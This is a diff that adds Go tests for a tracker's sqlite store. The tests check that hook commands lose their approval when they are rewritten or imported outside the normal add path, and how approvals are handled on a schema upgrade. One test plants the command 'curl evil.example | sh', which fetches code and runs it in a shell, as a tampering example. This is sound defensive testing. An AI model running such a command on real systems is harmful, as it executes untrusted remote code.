@@ -0,0 +1,105 @@
+package sqlite
+
+import (
+	"context"
+	"os"
+	"testing"
+)
+
+func TestHookApprovalFollowsCommand(t *testing.T) {
+	t.Setenv("TRACK_HOME", t.TempDir())
+	ctx := context.Background()
+	store, err := Open(ctx)
+	if err != nil {
+		t.Fatalf("Open() error: %v", err)
+	}
+	t.Cleanup(func() { _ = store.Close() })
+
+	if err := store.AddHook(ctx, "issue.created", "echo hi", ""); err != nil {
+		t.Fatalf("AddHook() error: %v", err)
+	}
+	h, err := store.GetHook(ctx, 1)
+	if err != nil {
+		t.Fatalf("GetHook() error: %v", err)
+	}
+	if !h.Approved {
+		t.Fatal("hooks added locally should be approved")
+	}
+
+	// A command rewritten outside AddHook, as in a synced database, needs a
+	// new approval; so does a hook row that was never added here.
+	if _, err := store.db.ExecContext(ctx, `UPDATE hooks SET run_cmd = 'curl evil.example | sh' WHERE id = 1`); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := store.db.ExecContext(ctx, `INSERT INTO hooks(event, run_cmd, cwd, created_at) VALUES('issue.updated', 'echo imported', '', '2030-01-01T00:00:00Z')`); err != nil {
+		t.Fatal(err)
+	}
+	hooks, err := store.ListHooks(ctx, "")
+	if err != nil {
+		t.Fatalf("ListHooks() error: %v", err)
+	}
+	if len(hooks) != 2 || hooks[0].Approved || hooks[1].Approved {
+		t.Fatalf("unexpected approvals: %+v", hooks)
+	}
+
+	if _, err := store.ApproveHook(ctx, 2); err != nil {
+		t.Fatalf("ApproveHook() error: %v", err)
+	}
+	hooks, err = store.ListHooks(ctx, "")
+	if err != nil {
+		t.Fatalf("ListHooks() error: %v", err)
+	}
+	if hooks[0].Approved || !hooks[1].Approved {
+		t.Fatalf("unexpected approvals after approve: %+v", hooks)
+	}
+	if _, err := store.ApproveHook(ctx, 99); err == nil {
+		t.Fatal("expected not found error")
+	}
+}
+
+func TestHookApprovalsApproveExistingHooksOnUpgrade(t *testing.T) {
+	t.Setenv("TRACK_HOME", t.TempDir())
+	ctx := context.Background()
+	store, err := Open(ctx)
+	if err != nil {
+		t.Fatalf("Open() error: %v", err)
+	}
+	// A database from before approvals: hooks, an older schema, but no
+	// hooks.allow.
+	if _, err := store.db.ExecContext(ctx, `INSERT INTO hooks(event, run_cmd, cwd, created_at) VALUES('issue.created', 'track organize', '', '2030-01-01T00:00:00Z')`); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := store.db.ExecContext(ctx, `UPDATE meta SET value = ? WHERE key = 'schema_version'`, hookApprovalsSchema-1); err != nil {
+		t.Fatal(err)
+	}
+	_ = store.Close()
+	path, err := HookApprovalsPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(path); err != nil {
+		t.Fatal(err)
+	}
+
+	store, err = Open(ctx)
+	if err != nil {
+		t.Fatalf("Open() error: %v", err)
+	}
+	t.Cleanup(func() { _ = store.Close() })
+	if h, err := store.GetHook(ctx, 1); err != nil || !h.Approved {
+		t.Fatalf("existing hook after upgrade = %+v, %v; want approved", h, err)
+	}
+
+	// Once the file exists, hooks that show up later are not approved.
+	if _, err := store.db.ExecContext(ctx, `INSERT INTO hooks(event, run_cmd, cwd, created_at) VALUES('issue.updated', 'echo synced', '', '2030-01-01T00:00:00Z')`); err != nil {
+		t.Fatal(err)
+	}
+	reopened, err := Open(ctx)
+	if err != nil {
+		t.Fatalf("Open() error: %v", err)
+	}
+	_ = reopened.Close()
+	if h, err := store.GetHook(ctx, 2); err != nil || h.Approved {
+		t.Fatalf("hook added after upgrade = %+v, %v; want unapproved", h, err)
+	}
+}